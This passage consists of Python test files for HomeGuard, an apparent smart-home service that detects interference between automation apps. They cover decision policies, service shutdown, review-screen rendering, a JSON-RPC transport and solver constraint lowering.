        service.session(ids[0])
    assert service.session(ids[-1]).status == "decided"


def test_auto_deny_policy_handles_threats_without_a_user():
    service = fresh_service(policy=AutoDenyPolicy())
    make_home(service, "h1")
    clean = service.install(InstallRequest(home_id="h1", **COMFORT_TV))
    assert clean.status == "decided" and clean.decision == "keep"
    assert clean.decided_by == "auto-deny"
    dirty = service.install(InstallRequest(home_id="h1", **COLD_DEFENDER))
    assert dirty.decision == "delete" and dirty.decided_by == "auto-deny"
    assert service.installed_apps("h1") == ["ComfortTV"]
    # Decided sessions cannot be re-decided by the tenant either.
    with pytest.raises(SessionDecidedError):
        service.decide(DecisionRequest(home_id="h1",
                                       session_id=dirty.session_id,
                                       decision="keep"))


def test_severity_threshold_policy_keeps_below_the_line():
    # AR ranks 4 in the default severity map: a threshold of 5 keeps
    # the racy install automatically, a threshold of 4 deletes it.
    lenient = fresh_service(policy=SeverityThresholdPolicy(threshold=5))
    make_home(lenient, "h1")
    lenient.install(InstallRequest(home_id="h1", **COMFORT_TV))
    kept = lenient.install(InstallRequest(home_id="h1", **COLD_DEFENDER))
    assert kept.decision == "keep" and not kept.report.clean
    assert lenient.installed_apps("h1") == ["ColdDefender", "ComfortTV"]

    strict = fresh_service(policy=SeverityThresholdPolicy(threshold=4))
    make_home(strict, "h1")
    strict.install(InstallRequest(home_id="h1", **COMFORT_TV))
    denied = strict.install(InstallRequest(home_id="h1", **COLD_DEFENDER))
    assert denied.decision == "delete"


def test_severity_threshold_can_escalate_to_the_user():
    service = fresh_service(
        policy=SeverityThresholdPolicy(threshold=4, above=None)
    )
    make_home(service, "h1")
    clean = service.install(InstallRequest(home_id="h1", **COMFORT_TV))
    assert clean.decision == "keep"  # below the line: auto-kept
    risky = service.install(InstallRequest(home_id="h1", **COLD_DEFENDER))
    assert risky.pending  # at/above the line: a human decides
    service.decide(DecisionRequest(home_id="h1",
                                   session_id=risky.session_id,
                                   decision="reconfigure"))
    assert service.installed_apps("h1") == ["ComfortTV"]


def test_chained_policy_first_verdict_wins():
    policy = ChainedPolicy(
        SeverityThresholdPolicy(threshold=3, above=None),  # keep the safe
        AutoDenyPolicy(),                                  # deny the rest
    )
    service = fresh_service(policy=policy)
    make_home(service, "h1")
    clean = service.install(InstallRequest(home_id="h1", **COMFORT_TV))
    assert clean.decision == "keep"
    dirty = service.install(InstallRequest(home_id="h1", **COLD_DEFENDER))
    assert dirty.decision == "delete" and dirty.decided_by == "chained"


def test_per_home_policy_overrides_service_default():
    service = fresh_service(policy=AutoDenyPolicy())
    make_home(service, "auto")
    make_home(service, "manual", policy=InteractivePolicy())
    auto = service.install(InstallRequest(home_id="auto", **COMFORT_TV))
    manual = service.install(InstallRequest(home_id="manual", **COMFORT_TV))
    assert auto.status == "decided"
    assert manual.pending


def test_policy_verdicts_persist_as_provenance(tmp_path):
    service = fresh_service(policy=AutoDenyPolicy(),
                            store_root=tmp_path / "fleet")
    make_home(service, "h1")
    service.install(InstallRequest(home_id="h1", **COMFORT_TV))
    denied = service.install(InstallRequest(home_id="h1", **COLD_DEFENDER))
    assert denied.decided_by == "auto-deny"

    # A fresh process restores the decision history with the deciding
    # policy's name attached — the frontend blob carries the verdict
    # provenance exactly like user decisions.
    restarted = fresh_service(store_root=tmp_path / "fleet")
    restarted.create_home("h1")
    assert restarted.restore("h1") == ["ComfortTV"]
    home = restarted.home("h1")
    assert [(r.app_name, r.decision, r.decided_by) for r in home.reviews] == [
        ("ComfortTV", "keep", "auto-deny"),
        ("ColdDefender", "delete", "auto-deny"),
    ]
    assert restarted.detection_stats("h1").solver_calls == 0


def test_transport_intake_via_review_pending():
    from repro.config.messaging import FcmHttpTransport
    from repro.config.uri import ConfigPayload, encode_uri

    service = fresh_service()
    make_home(service, "h1")
    transport = FcmHttpTransport()
    service.connect_transport("h1", transport)
    home = service.home("h1")
    bound, types = home.bind_inputs(COMFORT_TV["devices"])
    transport.send(
        encode_uri(ConfigPayload(
            app_name="ComfortTV", devices=bound,
            values={"threshold1": "30"},
        )),
        target=None,
    )
    sessions = service.review_pending("h1", device_types=types)
    assert [s.app_name for s in sessions] == ["ComfortTV"]
    assert sessions[0].pending


def test_audit_request_covers_installed_apps():
    service = fresh_service()
    make_home(service, "h1")
    for spec in (COMFORT_TV, COLD_DEFENDER):
        session = service.install(InstallRequest(home_id="h1", **spec))
        service.decide(DecisionRequest(home_id="h1",
                                       session_id=session.session_id,
                                       decision="keep"))
    reports = service.audit(AuditRequest(home_id="h1"))
    assert sorted(r.app_name for r in reports) == ["ColdDefender",
                                                   "ComfortTV"]
    assert any(t.type == "AR" for r in reports for t in r.threats)
    only = service.audit(AuditRequest(home_id="h1", apps=("ComfortTV",)))
    assert [r.app_name for r in only] == ["ComfortTV"]


def test_shared_backend_extracts_once_for_all_homes():
    class CountingExtractor(RuleExtractor):
        def __init__(self):
            super().__init__()
            self.extractions = 0

        def extract(self, source, app_name=None):
            self.extractions += 1
            return super().extract(source, app_name)

    extractor = CountingExtractor()
    service = HomeGuardService(extractor=extractor, workers=None)
    service.preload([app_by_name("ComfortTV")])
    make_home(service, "h1")
    make_home(service, "h2")
    for home_id in ("h1", "h2"):
        session = service.install(
            InstallRequest(home_id=home_id, **COMFORT_TV)
        )
        service.decide(DecisionRequest(home_id=home_id,
                                       session_id=session.session_id,
                                       decision="keep"))
    assert extractor.extractions == 1  # offline phase ran once, not per home


def test_remove_home_drops_its_pending_sessions():
    service = fresh_service()
    make_home(service, "h1")
    make_home(service, "h2")
    s1 = service.install(InstallRequest(home_id="h1", **COMFORT_TV))
    s2 = service.install(InstallRequest(home_id="h2", **COMFORT_TV))
    service.remove_home("h1")
    assert service.homes() == ["h2"]
    with pytest.raises(UnknownHomeError):
        service.installed_apps("h1")
    assert [s.session_id for s in service.sessions()] == [s2.session_id]
    with pytest.raises(UnknownSessionError):
        service.session(s1.session_id)


# ----------------------------------------------------------------------
# Lifecycle: close() idempotency, incl. after a failed restore


def test_service_close_is_idempotent_and_releases_workers():
    service = fresh_service(workers="process:2")
    make_home(service, "h1")
    # Two conflicting installs: the second one has candidate pairs, so
    # its solve batch actually reaches the pooled backend.
    for spec in (COMFORT_TV, COLD_DEFENDER):
        session = service.install(InstallRequest(home_id="h1", **spec))
        service.decide(DecisionRequest(home_id="h1",
                                       session_id=session.session_id,
                                       decision="keep"))
    assert service.dispatcher._executor is not None  # the pool started
    service.close()
    assert service.dispatcher._executor is None
    service.close()  # idempotent: no error, nothing to release twice
    assert service.dispatcher._executor is None


def test_homeguard_close_idempotent_after_failed_restore(tmp_path):
    """Satellite regression: a restore() that blows up mid-load must
    not leave process-pool workers dangling — close() still releases
    them, and calling it again (or before any dispatch) is safe."""
    from repro import HomeGuard

    store_path = tmp_path / "store"
    seed = HomeGuard(transport="http", store_path=str(store_path),
                     workers=None)
    seed.register_device("TV", "tv")
    seed.register_device("Temp", "temperatureSensor")
    seed.register_device("Window", "windowOpener")
    seed.install(app_by_name("ComfortTV"),
                 devices={"tv1": "TV", "tSensor": "Temp",
                          "window1": "Window"},
                 values={"threshold1": 30})
    seed.close()
    seed.close()  # close twice on the serial path: also a no-op

    hg = HomeGuard(transport="http", store_path=str(store_path),
                   workers="process:2")
    # Force the shared pool to start (two conflicting installs give
    # the dispatcher real pairs), then make the next load explode.
    hg.register_device("TV", "tv")
    hg.register_device("Window", "windowOpener")
    hg.install(app_by_name("ComfortTV"),
               devices={"tv1": "TV", "tSensor": "temperatureSensor",
                        "window1": "Window"},
               values={"threshold1": 30})
    hg.install(app_by_name("ColdDefender"),
               devices={"tv2": "TV", "window2": "Window"},
               values={"weather": "rainy"})
    assert hg.service.dispatcher._executor is not None

    def exploding_load(*args, **kwargs):
        raise RuntimeError("disk went away mid-restore")

    hg.app.store.load = exploding_load
    with pytest.raises(RuntimeError, match="disk went away"):
        hg.restore()
    hg.close()  # must still release the pool despite the failed restore
    assert hg.service.dispatcher._executor is None
    hg.close()  # and stay callable
    assert hg.service.dispatcher._executor is None


def test_close_before_any_dispatch_is_safe():
    service = HomeGuardService(workers="auto")
    service.create_home("h1")
    service.close()
    service.close()


def test_concurrent_close_from_many_threads_is_safe():
    """The fleet server's drain path closes the service from its event
    loop thread while a ``with`` block may close it from the main
    thread — both orderings must be safe, every time (regression for
    the transport's ``own_service`` shutdown)."""
    import threading

    service = fresh_service(workers="thread:2", solve_cache="lru")
    make_home(service, "h1")
    # Start the pool with real work so close() has something to release.
    for spec in (COMFORT_TV, COLD_DEFENDER):
        session = service.install(InstallRequest(home_id="h1", **spec))
        service.decide(DecisionRequest(home_id="h1",
                                       session_id=session.session_id,
                                       decision="keep"))
    assert service.dispatcher._executor is not None

    errors = []

    def closer():
        try:
            service.close()
        except Exception as error:  # noqa: BLE001 - surfaced below
            errors.append(error)

    threads = [threading.Thread(target=closer) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert service.dispatcher._executor is None
    service.close()  # still idempotent afterwards


def test_service_context_manager_closes():
    with fresh_service(workers="thread:2") as service:
        make_home(service, "h1")
        for spec in (COMFORT_TV, COLD_DEFENDER):
            session = service.install(
                InstallRequest(home_id="h1", **spec)
            )
            service.decide(DecisionRequest(home_id="h1",
                                           session_id=session.session_id,
                                           decision="keep"))
        assert service.dispatcher._executor is not None
    assert service.dispatcher._executor is None


def test_homeguardapp_shim_still_walks_the_legacy_flow():
    """The deprecation-warned shim keeps the historical surface: direct
    review_installation/decide calls over a shared service home."""
    from repro.config.uri import ConfigPayload

    backend = RuleExtractor()
    backend.extract(app_by_name("ComfortTV").source, "ComfortTV")
    with pytest.warns(DeprecationWarning):
        app = HomeGuardApp(backend, workers=None)
    review = app.review_installation(ConfigPayload(app_name="ComfortTV"))
    app.decide(review, InstallDecision.KEEP)
    assert app.installed_apps() == ["ComfortTV"]
    assert app.reviews[0].decision == "keep"
    assert app.reviews[0].decided_by is None
    # The shim's state views are live views of the service home.
    home = app.service.home("default")
    assert app.reviews is home.reviews
    assert app.pipeline is home.pipeline
