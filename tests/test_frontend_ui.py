"""Tests for the review-screen rendering and threat phrasing details."""

from repro.detector.types import Threat, ThreatType
from repro.frontend import describe_threat, render_review
from repro.frontend.app import InstallReview
from repro.frontend.ui import _wrap
from repro.rules import Action, Condition, Rule, Trigger
from repro.symex.values import DeviceRef


def rule(app, command="on"):
    device = DeviceRef("sw", "capability.switch")
    return Rule(
        app_name=app,
        rule_id=f"{app}/R1",
        trigger=Trigger(subject="sw", attribute="switch", device=device),
        condition=Condition(),
        action=Action(subject="sw", command=command, device=device,
                      capability="switch"),
    )


def test_render_clean_review():
    review = InstallReview(app_name="Solo", rules=["when x then y"])
    text = render_review(review)
    assert "Solo" in text
    assert "No cross-app interference" in text
    assert "R1. when x then y" in text


def test_render_review_with_threats_and_chains():
    threat = Threat(type=ThreatType.ACTUATOR_RACE, rule_a=rule("A"),
                    rule_b=rule("B", "off"))
    chain = Threat(type=ThreatType.CHAINED, rule_a=rule("A"),
                   rule_b=rule("C"), chain=(rule("A"), rule("B"), rule("C")))
    review = InstallReview(app_name="Multi", rules=["r"], threats=[threat],
                           chains=[chain])
    text = render_review(review)
    assert "2 potential cross-app interference threat(s)" in text
    assert "[AR]" in text
    assert "[CHAIN]" in text


def test_wrap_long_lines():
    text = "word " * 40
    lines = _wrap(text.strip())
    assert len(lines) > 1
    assert all(len(line) <= 70 for line in lines)


def test_describe_threat_every_category_has_phrasing():
    a, b = rule("AppA"), rule("AppB", "off")
    for threat_type in ThreatType:
        threat = Threat(type=threat_type, rule_a=a, rule_b=b,
                        detail="details here", chain=(a, b))
        text = describe_threat(threat)
        assert threat_type.value in text
        assert len(text) > 30


def test_witness_rendered_in_description():
    threat = Threat(
        type=ThreatType.ACTUATOR_RACE, rule_a=rule("A"), rule_b=rule("B"),
        witness=(("type:tv.switch", "on"),
                 ("type:temperatureSensor.temperature", 90.01234)),
    )
    text = describe_threat(threat)
    assert "Example situation" in text
    assert "tv.switch = on" in text


def test_directed_flag():
    a, b = rule("A"), rule("B")
    assert Threat(type=ThreatType.COVERT_TRIGGERING, rule_a=a, rule_b=b).directed
    assert not Threat(type=ThreatType.ACTUATOR_RACE, rule_a=a, rule_b=b).directed
