"""Transport conformance battery (DESIGN.md §13).

Every wire model pinned by ``schema_manifest.json`` must round-trip
through a *live* loopback server byte-loss-free, and every error code
in the taxonomy must cross the socket and come back as the same typed
:class:`ServiceError` subclass a direct caller would have caught —
including codes from a future peer that this build has never heard of.
The in-process API and the socket API are the same surface; these
tests hold the transport to that.
"""

import http.client
import json

import pytest

from repro.service import (
    DuplicateHomeError,
    ServerStatusRecord,
    ServiceError,
    UnknownHomeError,
    UnknownSessionError,
    decode_wire,
)
from repro.service.errors import ERROR_CODES
from repro.service.schemas import schema_manifest
from repro.service.service import HomeGuardService
from repro.service.transport import (
    ERROR_STATUS,
    FleetClient,
    serve_background,
)
from test_service_schemas import SAMPLES


@pytest.fixture(scope="module")
def live():
    """One loopback server for the whole battery."""
    service = HomeGuardService(workers=None)
    with serve_background(service, own_service=True) as background:
        yield background


@pytest.fixture()
def client(live):
    with FleetClient(live.host, live.port) as fleet_client:
        yield fleet_client


def raw_call(live, method, params, rpc_id=1):
    """One RPC at the HTTP level: (status, headers, decoded body)."""
    connection = http.client.HTTPConnection(
        live.host, live.port, timeout=30
    )
    try:
        connection.request(
            "POST",
            "/rpc",
            json.dumps(
                {
                    "jsonrpc": "2.0",
                    "id": rpc_id,
                    "method": method,
                    "params": params,
                }
            ),
        )
        response = connection.getresponse()
        body = response.read()
        return response.status, dict(response.getheaders()), json.loads(body)
    finally:
        connection.close()


# ----------------------------------------------------------------------
# Models


def test_samples_cover_every_manifest_model():
    """The battery below is only as strong as its coverage: one sample
    per model the committed manifest pins (errors ride separately)."""
    sampled = {type(sample).kind for sample in SAMPLES}
    assert sampled == set(schema_manifest()["models"])


@pytest.mark.parametrize(
    "sample",
    SAMPLES,
    ids=[type(s).__name__ + str(i) for i, s in enumerate(SAMPLES)],
)
def test_every_manifest_model_round_trips_the_wire(client, sample):
    echoed = client.echo(sample)
    assert type(sample).from_json(echoed) == sample
    assert decode_wire(echoed) == sample


# ----------------------------------------------------------------------
# Errors


def test_every_error_code_survives_the_wire(client):
    for code, error_class in sorted(ERROR_CODES.items()):
        error = error_class(f"probe for {code}", probe=code)
        echoed = client.echo(error.to_json())
        decoded = decode_wire(echoed)
        assert type(decoded) is error_class, code
        assert decoded.code == code
        assert decoded.message == error.message
        assert decoded.details == {"probe": code}


def test_unknown_peer_error_code_survives_the_wire(client):
    """A code outside this build's taxonomy (a future peer) must cross
    the wire with its code intact, not be coerced or rejected."""
    record = ServiceError("from the future").to_json()
    record["code"] = "code-from-the-future"
    echoed = client.echo(record)
    decoded = ServiceError.from_json(echoed)
    assert type(decoded) is ServiceError
    assert decoded.code == "code-from-the-future"
    assert decoded.message == "from the future"


def test_error_status_map_covers_the_whole_taxonomy():
    assert set(ERROR_STATUS) == set(schema_manifest()["errors"])
    statuses = {status for status, _ in ERROR_STATUS.values()}
    assert statuses <= {400, 404, 409, 413, 429, 500, 503}
    # JSON-RPC application codes stay in the server-error band.
    for code, (_, rpc_code) in ERROR_STATUS.items():
        assert -32099 <= rpc_code <= -32000 or rpc_code in (-32600, -32602), code


def test_typed_errors_raise_across_the_socket(client):
    with pytest.raises(UnknownHomeError) as excinfo:
        client.installed_apps("ghost-home")
    assert excinfo.value.code == "unknown-home"
    client.create_home("conformance-errors")
    with pytest.raises(DuplicateHomeError):
        client.create_home("conformance-errors")
    with pytest.raises(UnknownSessionError):
        client.session("conformance-errors", "never-issued")


def test_http_statuses_match_the_taxonomy(live):
    status, headers, body = raw_call(
        live, "installed_apps", {"home_id": "nope"}
    )
    assert status == 404
    assert body["error"]["data"]["code"] == "unknown-home"
    assert "X-Request-Id" in headers
    # Garbage into the strict decoder: schema-mismatch, HTTP 400.
    status, _, body = raw_call(live, "echo", {"kind": "NoSuchModel"})
    assert status == 400
    assert body["error"]["data"]["code"] == "schema-mismatch"
    # Unknown method: protocol-level -32601, taxonomy invalid-request.
    status, _, body = raw_call(live, "frobnicate", {})
    assert status == 400
    assert body["error"]["code"] == -32601
    assert body["error"]["data"]["code"] == "invalid-request"


# ----------------------------------------------------------------------
# Envelope + connection behavior


def test_keep_alive_connection_serves_many_requests(live):
    connection = http.client.HTTPConnection(
        live.host, live.port, timeout=30
    )
    try:
        request_ids = []
        for index in range(5):
            connection.request(
                "POST",
                "/rpc",
                json.dumps(
                    {
                        "jsonrpc": "2.0",
                        "id": index,
                        "method": "status",
                        "params": None,
                    }
                ),
            )
            response = connection.getresponse()
            envelope = json.loads(response.read())
            assert response.status == 200
            assert envelope["id"] == index
            request_ids.append(response.getheader("X-Request-Id"))
        # One id per request, all distinct, all on one connection.
        assert len(set(request_ids)) == 5
    finally:
        connection.close()


def test_rpc_ids_echo_back_verbatim(live):
    """String, numeric and null ids all come back as sent."""
    for rpc_id in ("alpha", 17, None):
        status, _, body = raw_call(live, "status", None, rpc_id=rpc_id)
        assert status == 200
        assert body["id"] == rpc_id


def test_status_decodes_as_a_server_status_record(client):
    record = client.status()
    assert isinstance(record, ServerStatusRecord)
    assert record.state == "serving"
    assert record.requests_total >= 1
    assert record.internal_errors == 0
    assert set(record.phase_counts) <= {
        "parse", "admit", "queue", "execute", "write"
    }


# ----------------------------------------------------------------------
# Lifecycle: drain ordering and idempotent close


def test_drain_rejects_new_intake_but_completes_inflight_work():
    import threading

    from repro.service import UnavailableError
    from repro.service.schemas import InstallRequest

    service = HomeGuardService(workers=None)
    with serve_background(service, own_service=True) as background:
        with FleetClient(background.host, background.port) as client:
            client.create_home("drain-home")

        install_outcome = {}

        def slow_install():
            with FleetClient(
                background.host, background.port
            ) as installer:
                try:
                    install_outcome["session"] = installer.install(
                        InstallRequest(
                            home_id="drain-home",
                            app_name="drain-app",
                            source=(
                                'definition(name: "Drain App", '
                                'namespace: "t", author: "t")\n'
                                'preferences { section("sw") { '
                                'input "sw", "capability.switch" } }\n'
                                "def installed() { "
                                'subscribe(sw, "switch.on", h) }\n'
                                "def h(evt) { sw.off() }\n"
                            ),
                            devices={"sw": "switch"},
                        )
                    )
                except Exception as error:  # surfaced by the assert below
                    install_outcome["error"] = error

        installer_thread = threading.Thread(target=slow_install)
        installer_thread.start()

        # Only start draining once the install is admitted (or already
        # done) — draining first would reject it at intake.
        with FleetClient(background.host, background.port) as client:
            for _ in range(2000):
                if install_outcome or client.status().requests_inflight:
                    break

        drainer_thread = threading.Thread(target=background.drain)
        drainer_thread.start()

        # status keeps answering mid-drain (it is the health probe)...
        with FleetClient(background.host, background.port) as client:
            deadline = 400
            while client.status().state != "draining" and deadline:
                deadline -= 1
            assert client.status().state == "draining"
            # ...while new work is refused with a *retryable* typed
            # error, not a dropped connection.
            with pytest.raises(UnavailableError) as excinfo:
                client.installed_apps("drain-home")
            assert excinfo.value.details.get("retryable") is True

        installer_thread.join(30)
        drainer_thread.join(30)
        # The in-flight install was never cut off by the drain.
        assert "error" not in install_outcome, install_outcome.get("error")
        assert install_outcome["session"].home_id == "drain-home"
        with FleetClient(background.host, background.port) as client:
            assert client.status().drain_rejections >= 1


def test_server_close_is_idempotent_and_concurrency_safe():
    import asyncio

    from repro.service.transport import FleetServer

    async def scenario():
        service = HomeGuardService(workers=None)
        server = FleetServer(service, own_service=True)
        await server.start()
        assert server.state == "serving"
        # Two concurrent closes + one late close: one does the work,
        # the others observe it; none raises.
        await asyncio.gather(server.close(), server.close())
        await server.close()
        assert server.state == "closed"
        # A never-started server closes as a no-op too.
        unstarted = FleetServer(HomeGuardService(workers=None))
        await unstarted.close()
        assert unstarted.state == "closed"

    asyncio.run(scenario())


def test_background_stop_is_idempotent():
    service = HomeGuardService(workers=None)
    with serve_background(service, own_service=True) as background:
        with FleetClient(background.host, background.port) as client:
            assert client.status().state == "serving"
        background.stop()
        background.stop()  # second stop is a no-op
        with pytest.raises(OSError):
            FleetClient(background.host, background.port).status()
