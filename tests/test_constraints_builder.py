"""Tests for the rule -> constraint lowering."""

from repro.constraints import ConstraintBuilder, Solver, TypeBasedResolver, conj
from repro.rules import extract_rules
from repro.symex.values import DeviceRef


def build_rule(source, app_name, index=0):
    return extract_rules(source, app_name).rules[index]


HOT_WINDOW = '''
input "tv1", "capability.switch"
input "tSensor", "capability.temperatureMeasurement"
input "threshold1", "number"
input "window1", "capability.switch"
def installed() { subscribe(tv1, "switch.on", h) }
def h(evt) {
    def t = tSensor.currentValue("temperature")
    if (t > threshold1) window1.on()
}
'''

HINTS = {
    "A": {"tv1": "tv", "tSensor": "temperatureSensor", "window1": "windowOpener"},
}


def test_situation_is_satisfiable():
    rule = build_rule(HOT_WINDOW, "A")
    resolver = TypeBasedResolver(type_hints=HINTS, values={"A": {"threshold1": 30}})
    builder = ConstraintBuilder(resolver)
    result = Solver(builder.pool).solve(builder.situation(rule))
    assert result.sat
    assert result.witness["type:temperatureSensor.temperature"] > 30


def test_input_pin_applied():
    rule = build_rule(HOT_WINDOW, "A")
    resolver = TypeBasedResolver(
        type_hints=HINTS, values={"A": {"threshold1": 145}}
    )
    builder = ConstraintBuilder(resolver)
    result = Solver(builder.pool).solve(builder.situation(rule))
    # temperature domain tops out at 150, so t > 145 is still SAT...
    assert result.sat
    assert result.witness["type:temperatureSensor.temperature"] > 145


def test_unsatisfiable_with_out_of_range_pin():
    rule = build_rule(HOT_WINDOW, "A")
    resolver = TypeBasedResolver(
        type_hints=HINTS, values={"A": {"threshold1": 150}}
    )
    builder = ConstraintBuilder(resolver)
    result = Solver(builder.pool).solve(builder.situation(rule))
    assert not result.sat  # nothing is strictly above 150 F


def test_shared_identity_unifies_condition_state():
    # Two apps *checking* the same device's state in their conditions
    # share one variable: contradictory checks make the merge UNSAT.
    source_b = '''
input "m1", "capability.motionSensor"
input "tvx", "capability.switch"
def installed() { subscribe(m1, "motion.active", h) }
def h(evt) {
    if (tvx.currentSwitch == "off") tvx.on()
}
'''
    source_c = '''
input "m2", "capability.motionSensor"
input "tvy", "capability.switch"
def installed() { subscribe(m2, "motion.active", h) }
def h(evt) {
    if (tvy.currentSwitch == "on") tvy.off()
}
'''
    rule_b = build_rule(source_b, "B")
    rule_c = build_rule(source_c, "C")
    resolver = TypeBasedResolver(type_hints={
        "B": {"m1": "motionSensor", "tvx": "tv"},
        "C": {"m2": "motionSensor", "tvy": "tv"},
    })
    builder = ConstraintBuilder(resolver)
    merged = conj([builder.situation(rule_b), builder.situation(rule_c)])
    assert not Solver(builder.pool).solve(merged).sat


def test_disjoint_trigger_events_do_not_conflict():
    # Momentary events: a close event and an open event can happen in
    # quick succession, so disjoint trigger values must stay SAT.
    source_b = '''
input "tvx", "capability.switch"
def installed() { subscribe(tvx, "switch.off", h) }
def h(evt) { tvx.on() }
'''
    rule_a = build_rule(HOT_WINDOW, "A")
    rule_b = build_rule(source_b, "B")
    hints = dict(HINTS)
    hints["B"] = {"tvx": "tv"}
    resolver = TypeBasedResolver(type_hints=hints)
    builder = ConstraintBuilder(resolver)
    merged = conj([builder.situation(rule_a), builder.situation(rule_b)])
    assert Solver(builder.pool).solve(merged).sat


def test_attr_equals_effect_constraint():
    resolver = TypeBasedResolver(type_hints=HINTS)
    builder = ConstraintBuilder(resolver)
    window = DeviceRef("window1", "capability.switch")
    formula = builder.attr_equals("A", window, "switch", "off")
    assert Solver(builder.pool).solve(formula).sat
    both = conj([
        formula,
        builder.attr_equals("A", window, "switch", "on"),
    ])
    assert not Solver(builder.pool).solve(both).sat


def test_attr_compare_effect_constraint():
    resolver = TypeBasedResolver(type_hints=HINTS)
    builder = ConstraintBuilder(resolver)
    sensor = DeviceRef("tSensor", "capability.temperatureMeasurement")
    formula = builder.attr_compare("A", sensor, "temperature", ">=", 100.0)
    result = Solver(builder.pool).solve(formula)
    assert result.sat
    assert result.witness["type:temperatureSensor.temperature"] >= 100


def test_membership_expands_to_disjunction():
    source = '''
input "sw1", "capability.switch"
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    if (location.mode in ["Away", "Night"]) sw1.off()
}
'''
    rule = build_rule(source, "M")
    resolver = TypeBasedResolver(type_hints={"M": {"sw1": "switch"}})
    builder = ConstraintBuilder(resolver)
    result = Solver(builder.pool).solve(builder.condition(rule))
    assert result.sat
    assert result.witness["location:mode"] in ("Away", "Night")


def test_opaque_predicates_become_free_atoms():
    source = '''
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) {
    if (timeOfDayIsBetween("22:00", "06:00", now(), location.timeZone)) sw1.off()
}
'''
    rule = build_rule(source, "T")
    resolver = TypeBasedResolver(type_hints={"T": {"sw1": "switch"}})
    builder = ConstraintBuilder(resolver)
    result = Solver(builder.pool).solve(builder.condition(rule))
    assert result.sat  # free atom can always be assumed true


def test_numeric_string_coercion():
    source = '''
input "sw1", "capability.switch"
input "tSensor", "capability.temperatureMeasurement"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) {
    if (tSensor.currentTemperature > "30") sw1.off()
}
'''
    rule = build_rule(source, "C")
    resolver = TypeBasedResolver(
        type_hints={"C": {"sw1": "switch", "tSensor": "temperatureSensor"}}
    )
    builder = ConstraintBuilder(resolver)
    result = Solver(builder.pool).solve(builder.condition(rule))
    assert result.sat
    assert result.witness["type:temperatureSensor.temperature"] > 30


def test_local_var_chain_resolved_through_data_constraints():
    source = '''
input "sw1", "capability.switch"
input "tSensor", "capability.temperatureMeasurement"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) {
    def c = tSensor.currentValue("temperature")
    def f = c * 9 / 5 + 32
    if (f > 212) sw1.off()
}
'''
    rule = build_rule(source, "F")
    resolver = TypeBasedResolver(
        type_hints={"F": {"sw1": "switch", "tSensor": "temperatureSensor"}}
    )
    builder = ConstraintBuilder(resolver)
    result = Solver(builder.pool).solve(builder.condition(rule))
    # f > 212F needs c > 100, within the [-40, 150] sensor range.
    assert result.sat
    assert result.witness["type:temperatureSensor.temperature"] > 100


def test_type_based_resolver_defaults_to_capability():
    resolver = TypeBasedResolver()
    identity, dtype = resolver.identity("X", DeviceRef("d", "capability.lock"))
    assert identity == "type:cap:lock"
    assert dtype is None


MODE_HOME = '''
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) {
    if (location.mode == "Home") sw1.off()
}
'''

MODE_AWAY = '''
input "sw2", "capability.switch"
def installed() { subscribe(sw2, "switch.on", h) }
def h(evt) {
    if (location.mode == "Away") sw2.off()
}
'''


class _EnvResolver(TypeBasedResolver):
    """Type-based resolver that scopes apps into per-app environments."""

    def environment(self, app_name):
        return f"env-{app_name}"


def test_location_mode_variables_are_scoped_per_environment():
    # ROADMAP-flagged scoping bug: the builder used to declare ONE
    # global location:mode variable, so two different homes' modes
    # spuriously unified in merged cross-home formulas.
    rule_home = build_rule(MODE_HOME, "A")
    rule_away = build_rule(MODE_AWAY, "B")

    # Single home (no environment method): one shared mode variable,
    # contradictory mode checks cannot overlap.
    builder = ConstraintBuilder(TypeBasedResolver())
    merged = conj([builder.condition(rule_home), builder.condition(rule_away)])
    assert not Solver(builder.pool).solve(merged).sat
    assert "location:mode" in builder.pool.str_candidates

    # Two homes: each gets its own mode variable, so "A is Home while
    # B's home is Away" is a perfectly consistent fleet situation.
    builder = ConstraintBuilder(_EnvResolver())
    merged = conj([builder.condition(rule_home), builder.condition(rule_away)])
    result = Solver(builder.pool).solve(merged)
    assert result.sat
    assert result.witness["env-A|location:mode"] == "Home"
    assert result.witness["env-B|location:mode"] == "Away"
    assert "location:mode" not in builder.pool.str_candidates


def test_time_variables_are_scoped_per_environment():
    source = '''
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) {
    if (now() > 1000) sw1.off()
}
'''
    rule = build_rule(source, "A")
    builder = ConstraintBuilder(_EnvResolver())
    Solver(builder.pool).solve(builder.condition(rule))
    assert "env-A|time:now" in builder.pool.num_bounds
    assert "time:now" not in builder.pool.num_bounds


# ----------------------------------------------------------------------
# Formula interning (DESIGN.md §10)


def _interning_corpus():
    from repro.corpus import demo_apps, device_controlling_apps
    from repro.rules.extractor import RuleExtractor

    extractor = RuleExtractor()
    rulesets, hints, values = [], {}, {}
    for app in list(demo_apps()) + list(device_controlling_apps()):
        rulesets.append(extractor.extract(app.source, app.name))
        hints[app.name] = app.type_hints
        values[app.name] = app.values
    rules = [rule for ruleset in rulesets for rule in ruleset.rules]
    return rules, TypeBasedResolver(type_hints=hints, values=values)


def test_interned_lowerings_equal_fresh_lowerings():
    from repro.constraints import FormulaInterner

    rules, resolver = _interning_corpus()
    interner = FormulaInterner()
    for rule in rules:
        for kind in ("situation", "condition"):
            fresh = ConstraintBuilder(resolver)
            expected = getattr(fresh, kind)(rule)
            # Twice: a miss-then-populate pass and a replay pass.
            for _ in range(2):
                interned = ConstraintBuilder(resolver, interner=interner)
                got = getattr(interned, kind)(rule)
                assert got == expected, (rule.rule_id, kind)
                assert interned.pool.num_bounds == fresh.pool.num_bounds
                assert (
                    interned.pool.str_candidates == fresh.pool.str_candidates
                )
    assert len(interner) > 0


def test_interned_pair_instances_equal_fresh_pair_instances():
    # The engine's actual usage: two rules lowered into one shared
    # pool.  The second rule's replay must reproduce the historical
    # in-context lowering exactly, including lazy kind inference
    # coupling (the interner falls back to in-context lowering when
    # the footprints collide).
    rules, resolver = _interning_corpus()
    interner_cache = None
    from repro.constraints import FormulaInterner

    interner_cache = FormulaInterner()
    pairs = [
        (rules[i], rules[j])
        for i in range(len(rules))
        for j in range(i + 1, len(rules))
    ]
    for rule_a, rule_b in pairs:
        fresh = ConstraintBuilder(resolver)
